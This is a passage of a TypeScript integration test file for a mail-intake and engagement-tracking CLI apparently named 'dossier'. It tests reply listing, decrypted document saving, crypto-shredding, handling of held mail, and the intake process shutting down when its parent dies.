      stop.abort();
      await running;
      await relayed.close();
      await relay.close();
    }
  });
});

describe('the officer at the command line', () => {
  const cli = (args: string[]) => {
    const { host, port, password } = inject('imap');
    return runDossier(
      {
        ...env.childEnv,
        DOSSIER_STATE_DIR: join(env.scratch, 'state'),
        MAIL_FROM: env.config.mailFrom,
        DOSSIER_IMAP_URL: `imap://${imapUser}@${host}:${port}`,
        DOSSIER_IMAP_PASSWORD: password,
      },
      officer,
      args,
    );
  };

  it('lists replies, saves their documents decrypted, and confirms one as the response', async () => {
    const e = await openEngagement('zoom');
    await sender.append(await vendorReply(e));
    await intake.pass();
    const ref = e.handle.workflowId;

    const listed = await cli(['--json', 'engagement', 'replies', ref]);
    expect(listed.code, listed.stderr).toBe(0);
    const [reply] = JSON.parse(listed.stdout) as { messageId: string; review: string }[];
    expect(reply.review).toBe('to-review');

    const folder = join(env.scratch, `saved-${randomUUID().slice(0, 6)}`);
    const saved = await cli(['--json', 'engagement', 'documents', ref, '--save', folder]);
    expect(saved.code, saved.stderr).toBe(0);
    expect(readFileSync(join(folder, 'response.pdf'), 'utf8')).toContain('response of the vendor');
    const { rows } = await downloadsInTrail({ campaignId: e.input.campaign.id, vendorId: 'zoom' }, 1);
    expect(rows).toEqual([expect.objectContaining({ workflowId: ref, actor: expect.stringContaining(officer), messageId: reply.messageId, documentName: 'response.pdf', downloadedVia: 'cli' })]);

    const confirmed = await cli(['engagement', 'confirm-reply', ref, '--message', reply.messageId]);
    expect(confirmed.code, confirmed.stderr).toBe(0);
    expect(confirmed.stdout).toContain('is now responded');

    // Crypto-shredding (once the case is over: a running one would fail at its next step) makes the
    // history and the documents unreadable, though the sealed bytes are still in the store.
    const [document] = (await e.status()).inbox![0].documents;
    await e.handle.terminate('case over');
    await env.encryption!.keystore.shred(campaignKeyId(e.input.campaign.id));
    await expect(documents.read(e.input.campaign.id, document)).rejects.toMatchObject({ code: 'DocumentShredded' });
    const after = await cli(['engagement', 'documents', ref, '--save', `${folder}-after`]);
    expect(after.code).not.toBe(0);
    expect(existsSync(join(`${folder}-after`, 'response.pdf'))).toBe(false);
  });

  it('saves documents into a folder again and again: each document once, a different file of the same name beside it, never a failure', async () => {
    const e = await openEngagement('webex');
    await sender.append(await vendorReply(e));
    await intake.pass();
    const ref = e.handle.workflowId;
    const folder = join(env.scratch, `saved-${randomUUID().slice(0, 6)}`);
    const save = async () => {
      const saved = await cli(['--json', 'engagement', 'documents', ref, '--save', folder]);
      expect(saved.code, saved.stderr).toBe(0);
      return readdirSync(folder).sort();
    };
    expect(await save()).toEqual(['response.pdf']);
    // The officer saves again after each new reply: what is already there is not copied again.
    expect(await save()).toEqual(['response.pdf']);
    const revised = Buffer.from('%PDF-1.7\n% the vendor’s revised response\n');
    await sender.append(await vendorReply(e, { attachments: [{ filename: 'response.pdf', content: revised, contentType: 'application/pdf' }] }));
    await intake.pass();
    const files = await save();
    expect(files).toHaveLength(2);
    expect(files).toContain('response.pdf');
    const beside = files.find((f) => f !== 'response.pdf')!;
    expect(beside).toMatch(/^[0-9a-f]{8}-response\.pdf$/);
    expect(readFileSync(join(folder, beside))).toEqual(revised);
    expect(await save()).toEqual(files);
  });

  it('settles a reply waiting for review once the officer records the response by hand', async () => {
    const e = await openEngagement('houseparty');
    await sender.append(await vendorReply(e));
    await intake.pass();
    const ref = e.handle.workflowId;
    const responded = await cli(['engagement', 'respond', ref, '--file', join(PROJECT_ROOT, 'test', 'fixtures', 'cli', 'response.md')]);
    expect(responded.code, responded.stderr).toBe(0);
    const listed = await cli(['engagement', 'replies', ref]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('Mail (0 to review)');
    const [reply] = JSON.parse((await cli(['--json', 'engagement', 'replies', ref])).stdout) as { review: string; reviewedBy?: string }[];
    expect(reply).toMatchObject({ review: 'confirmed', reviewedBy: cliActor(officer, cliAccount()) });
  });

  it('says, with no mail naming no campaign held, that it listed that mail alone, and how to list a campaign’s pen', async () => {
    const e = await openEngagement('meet');
    await sender.append(await vendorReply(e, { from: 'counsel@lawfirm.test' }));
    await intake.pass();
    for (const h of await intake.held(undefined)) await intake.dismiss(undefined, h.messageId, 'Officer', 'left by another test');
    expect((await intake.held(e.input.campaign.id)).length).toBeGreaterThan(0);
    const listed = await cli(['inbox', 'held']);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('No mail that names no campaign is held: without --campaign, only that mail is listed.');
    expect(listed.stdout).toContain('`npx dossier inbox held --campaign <campaign id>` lists it');
  });

  it('lists the holding pen and assigns held mail to an engagement', async () => {
    const e = await openEngagement('cisco');
    await sender.append(await vendorReply(e, { from: 'counsel@lawfirm.test' }));
    await intake.pass();
    const held = await cli(['--json', 'inbox', 'held', '--campaign', e.input.campaign.id]);
    expect(held.code, held.stderr).toBe(0);
    const { pen, held: [message] } = JSON.parse(held.stdout) as { pen: string; held: { messageId: string; reason: string }[] };
    expect(pen).toBe(e.input.campaign.id);
    expect(message.reason).toContain('counsel@lawfirm.test is not an address of Vendor cisco');

    const assigned = await cli(['inbox', 'assign', message.messageId, e.handle.workflowId]);
    expect(assigned.code, assigned.stderr).toBe(0);
    expect((await e.status()).inbox![0]).toMatchObject({ from: 'counsel@lawfirm.test', assignedBy: cliActor(officer, cliAccount()) });
  });

  it('dismisses held mail, keeping it with who dismissed it and why', async () => {
    const e = await openEngagement('cisco');
    await sender.append(await vendorReply(e, { from: 'spam@ads.test' }));
    await intake.pass();
    const [message] = await intake.held(e.input.campaign.id);
    const noReason = await cli(['inbox', 'dismiss', message.messageId, '--campaign', e.input.campaign.id, '--reason', ' ']);
    expect(noReason.stderr).toContain('a reason is required');
    expect(await intake.held(e.input.campaign.id)).toHaveLength(1);

    const dismissed = await cli(['inbox', 'dismiss', message.messageId, '--campaign', e.input.campaign.id, '--reason', 'Advertising']);
    expect(dismissed.code, dismissed.stderr).toBe(0);
    expect(await intake.held(e.input.campaign.id)).toEqual([]);
    const kept: string[] = [];
    for await (const stored of mailbox.messages(DISMISSED_FOLDER)) kept.push(stored.raw.toString());
    const copy = kept.find((raw) => raw.includes(message.messageId))!;
    expect(copy).toContain('X-Dossier-Dismissed-Reason: Advertising');
    expect(copy).toContain(`X-Dossier-Dismissed-By: ${officer} (`);
    expect((await e.status()).inbox).toEqual([]);
  });
});

describe('the intake that npm start runs', () => {
  it('stops when the process that spawned it dies, even killed outright', { timeout: 60_000 }, async () => {
    const scratch = join(env.scratch, 'orphan');
    // A parent that spawns the intake as `npm start` does, prints its pid, then waits to be killed.
    const parentScript = `const { spawnIntake } = require(${JSON.stringify(join(PROJECT_ROOT, 'intake', 'spawn.ts'))});
      const intake = spawnIntake(process.env); console.log('intake pid ' + intake.pid); setInterval(() => {}, 1000);`;
    const parent = spawn(process.execPath, ['--import', 'tsx', '-e', parentScript], {
      cwd: PROJECT_ROOT,
      env: {
        ...env.childEnv,
        DOSSIER_MAILDIR: join(scratch, 'mail'),
        DOSSIER_CASE_MAILBOX: 'case@test.example',
        DOSSIER_STATE_DIR: join(scratch, 'state'),
        DOSSIER_OUTPUT_DIR: join(scratch, 'out'),
        DOSSIER_KEYSTORE_DIR: join(scratch, 'keys'),
        DOSSIER_MASTER_KEYS: generateMasterKeySpec('orphan'),
        DOSSIER_INTAKE_METRICS_ADDRESS: '',
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let output = '';
    parent.stdout!.on('data', (c: Buffer) => (output += c.toString()));
    parent.stderr!.on('data', (c: Buffer) => (output += c.toString()));
    const ready = await until(async () => output, (o) => /intake pid \d+/.test(o) && /^Intake {2,}/m.test(o), 'the intake running', 30_000);
    const pid = Number(/intake pid (\d+)/.exec(ready)![1]);
    const alive = () => {
      try {
        process.kill(pid, 0);
        return true;
      } catch {
        return false;
      }
    };
    expect(alive()).toBe(true);
    parent.kill('SIGKILL');
    try {
      await until(async () => alive(), (running) => !running, 'the intake stopped after its parent died', 20_000);
    } finally {
      if (alive()) process.kill(pid, 'SIGKILL');
    }
  });
});
